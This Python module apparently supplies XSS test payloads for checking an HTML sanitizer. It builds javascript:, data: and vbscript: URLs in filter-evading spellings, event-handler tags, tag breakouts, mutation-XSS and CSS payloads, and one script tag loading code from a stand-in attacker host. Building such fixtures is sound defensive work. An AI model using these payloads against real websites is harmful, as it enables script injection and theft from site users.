"""XSS payloads, generated: script URLs in many spellings x the places that take a URL, plus tags.

Every payload tries to run ``alert`` or load active content if it reaches a browser unescaped.
"""

from __future__ import annotations

SCRIPT_URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#x09;script:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "jav&#x0D;ascript:alert(1)",
    "javascript:%61lert(1)",
    "javascript://%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "DaTa:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
)
"""The same dangerous schemes, spelled the ways that have slipped past filters."""

URL_CARRIERS = (
    '<a href="{url}">read more</a>',
    "<a href='{url}' linktype=\"external\">read more</a>",
    "<a href={url}>read more</a>",
    '<img src="{url}">',
    '<iframe src="{url}"></iframe>',
    '<form action="{url}"><button>go</button></form>',
    '<button formaction="{url}">go</button>',
    '<svg><a xlink:href="{url}"><text x="1" y="1">go</text></a></svg>',
    '<math href="{url}">go</math>',
    '<video poster="{url}"></video>',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
)
"""Elements and attributes that follow or load a URL."""

EVENT_HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onpointerenter",
)
HANDLER_CARRIERS = (
    "<img src=x {handler}=alert(1)>",
    "<svg {handler}=alert(1)>",
    '<p {handler}="alert(1)">text</p>',
    "<a href=\"https://example.org/\" {handler}='alert(1)'>link</a>",
    "<details open {handler}=alert(1)>",
    "<input autofocus {handler}=alert(1)>",
    "<body {handler}=alert(1)>",
)
"""Elements that fire events on load, focus or a pointer; each gets every handler."""

OTHER_PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script src="https://evil.example/x.js"></script>',
    "<script/src=data:,alert(1)></script>",
    "<<script>script>alert(1)<</script>/script>",
    "</script><script>alert(1)</script>",
    '"></script><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    '<p style="width:expression(alert(1))">styled</p>',
    '<p style="behavior:url(x.htc)">styled</p>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<a href="#" style="-moz-binding:url(x.xml#x)">bound</a>',
    '<isindex action="javascript:alert(1)" type=image>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<img srcset="javascript:alert(1) 1x">',
    '<a href="https://example.org/" target="_blank" rel="opener">safe looking</a>',
    '<a href="https://example.org/">ok</a><p>\'quotes\' and "double" &amp; &lt;tags&gt;</p>',
    '<a linktype="page" id="1" onclick="alert(1)">page link</a>',
    '<a href="/relative/path">relative</a><a href="mailto:desk@example.org">mail</a>',
)
"""Tags, breakouts out of script, title, textarea and style, mutation XSS and CSS."""


def payloads() -> list[str]:
    """Return every payload, in a fixed order, without duplicates."""
    generated = [carrier.format(url=url) for url in SCRIPT_URLS for carrier in URL_CARRIERS]
    generated += [
        carrier.format(handler=handler)
        for handler in EVENT_HANDLERS
        for carrier in HANDLER_CARRIERS
    ]
    generated += OTHER_PAYLOADS
    return list(dict.fromkeys(generated))


PAYLOADS = payloads()
